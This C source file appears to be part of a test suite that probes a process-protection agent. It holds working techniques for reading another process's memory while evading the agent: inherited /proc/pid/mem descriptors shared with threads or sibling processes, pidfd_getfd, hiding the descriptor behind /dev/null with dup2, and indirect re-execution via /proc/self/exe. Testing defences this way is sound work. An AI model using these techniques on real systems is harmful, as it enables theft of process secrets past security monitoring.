/* SPDX-License-Identifier: Apache-2.0 */
/* One opens, another one reads. The agent may kill the opener, and the descriptor stays. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define STACK_BYTES (1 << 16)
#define PATIENCE_SECONDS 0.2

/* The other process waits for this. */
struct errand {
	const struct prey *prey;
	int fd;
	/* This is put in its place. */
	int harmless;
	/* Takes as much as it can; returns the number of bytes. */
	long (*take)(const struct errand *errand);
};

static double seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static long take_memory(const struct errand *errand)
{
	long length = pread(errand->fd, loot, PAGE_BYTES, errand->prey->address);

	return length > 0 ? canary_bytes(loot, length) : 0;
}

static long take_page(const struct errand *errand)
{
	char *page = mmap(NULL, PAGE_BYTES, PROT_READ, MAP_SHARED, errand->fd, 0);

	if (page == MAP_FAILED)
		return 0;
	memcpy(loot, page, PAGE_BYTES);
	munmap(page, PAGE_BYTES);
	return canary_bytes(loot, PAGE_BYTES);
}

/* Until there is something, or a moment after there can be nothing any more. */
static int wait_and_take(void *argument)
{
	const struct errand *errand = argument;
	double end = seconds() + PATIENCE_SECONDS;
	int was_over;

	do {
		was_over = *is_over;
		if (errand->take(errand) > 0)
			return 0;
		sched_yield();
	} while (!was_over && seconds() < end);
	return 1;
}

static void *wait_in_thread(void *argument)
{
	wait_and_take(argument);
	return NULL;
}

/* The number that the next descriptor will have. */
static int next_descriptor(void)
{
	int fd = dup(0);

	close(fd);
	return fd;
}

/*
 * A separate process that shares the descriptors: it outlives the opener. Its parent waits for
 * all.
 */
static int have_sibling(struct errand *errand)
{
	char *stack = mmap(NULL, STACK_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	return clone(wait_and_take, stack + STACK_BYTES, CLONE_FILES | CLONE_PARENT | SIGCHLD, errand);
}

/* The process that has opened waits for the one that reads. */
static long outcome(int fd, int sibling)
{
	int error = errno;
	double end = seconds() + PATIENCE_SECONDS;

	while (fd >= 0 && sibling > 0 && canary_bytes(loot, PAGE_BYTES) == 0 && seconds() < end)
		sched_yield();
	close_again(fd);
	errno = error;
	return fd < 0 ? -1 : canary_bytes(loot, PAGE_BYTES);
}

static long memory_by_sibling(const struct prey *prey)
{
	struct errand errand = { prey, next_descriptor(), -1, take_memory };
	int sibling = have_sibling(&errand);

	return outcome(open_of(prey->pid, "mem", O_RDONLY), sibling);
}

static long descriptor_by_sibling(const struct prey *prey)
{
	int pidfd = pidfd_of(prey->pid);
	struct errand errand = { prey, next_descriptor(), -1, take_page };
	int sibling = have_sibling(&errand);

	return outcome(syscall(SYS_pidfd_getfd, pidfd, prey->descriptor, 0), sibling);
}

static long memory_by_thread(const struct prey *prey)
{
	struct errand errand = { prey, next_descriptor(), -1, take_memory };
	pthread_t thread;
	long leaked;
	int error;

	if (pthread_create(&thread, NULL, wait_in_thread, &errand))
		return -1;
	leaked = outcome(open_of(prey->pid, "mem", O_RDONLY), 1);
	error = errno;
	*is_over = 1;
	pthread_join(thread, NULL);
	errno = error;
	return leaked;
}

/*
 * Puts something harmless into the place of the opened file, as soon as it is there: a later look
 * sees nothing of it.
 */
static void *hide(void *argument)
{
	struct errand *errand = argument;
	int kept = -1;

	while (!*is_over && kept < 0)
		kept = dup(errand->fd);
	if (kept < 0)
		return NULL;
	dup2(errand->harmless, errand->fd);
	errand->fd = kept;
	take_memory(errand);
	return NULL;
}

static long memory_by_hiding(const struct prey *prey)
{
	int harmless = open("/dev/null", O_RDONLY);
	struct errand errand = { prey, next_descriptor(), harmless, NULL };
	pthread_t thread;
	int fd, error;

	if (pthread_create(&thread, NULL, hide, &errand))
		return -1;
	sched_yield();
	fd = open_of(prey->pid, "mem", O_RDONLY);
	error = errno;
	*is_over = fd < 0;
	pthread_join(thread, NULL);
	close_again(fd);
	close_again(harmless);
	errno = error;
	return fd < 0 ? -1 : canary_bytes(loot, PAGE_BYTES);
}

int read_relative_memory(const char *address)
{
	int fd = open("mem", O_RDONLY);
	long length = fd < 0 ? -1 : pread(fd, loot, PAGE_BYTES, strtoul(address, NULL, 0));

	if (length < 0)
		return errno;
	return canary_bytes(loot, length) > 0 ? 0 : EIO;
}

/* Another program does it, and no path shows that it is started. It answers with an errno. */
static long memory_by_program(const struct prey *prey)
{
	char folder[32], address[32];
	int status;
	pid_t child = fork();

	snprintf(folder, sizeof(folder), "/proc/%d", prey->pid);
	snprintf(address, sizeof(address), "%#lx", prey->address);
	if (child == 0) {
		if (chdir(folder) == 0)
			execl("/proc/self/exe", "svc-attack", "--relative-mem", address, NULL);
		_exit(ENOEXEC);
	}
	if (child < 0 || waitpid(child, &status, 0) != child)
		return -1;
	if (WIFSIGNALED(status))
		raise(SIGKILL);
	errno = WEXITSTATUS(status);
	return errno ? (errno == EIO ? 0 : -1) : (long)sizeof(CANARY) - 1;
}

const struct attack accomplice_attacks[] = {
	{ "proc-mem-by-thread", NULL, memory_by_thread },
	{ "proc-mem-by-sibling", NULL, memory_by_sibling },
	{ "proc-mem-hidden", NULL, memory_by_hiding },
	{ "proc-mem-by-program", NULL, memory_by_program },
	{ "pidfd-getfd-by-sibling", NULL, descriptor_by_sibling },
	{ 0 },
};
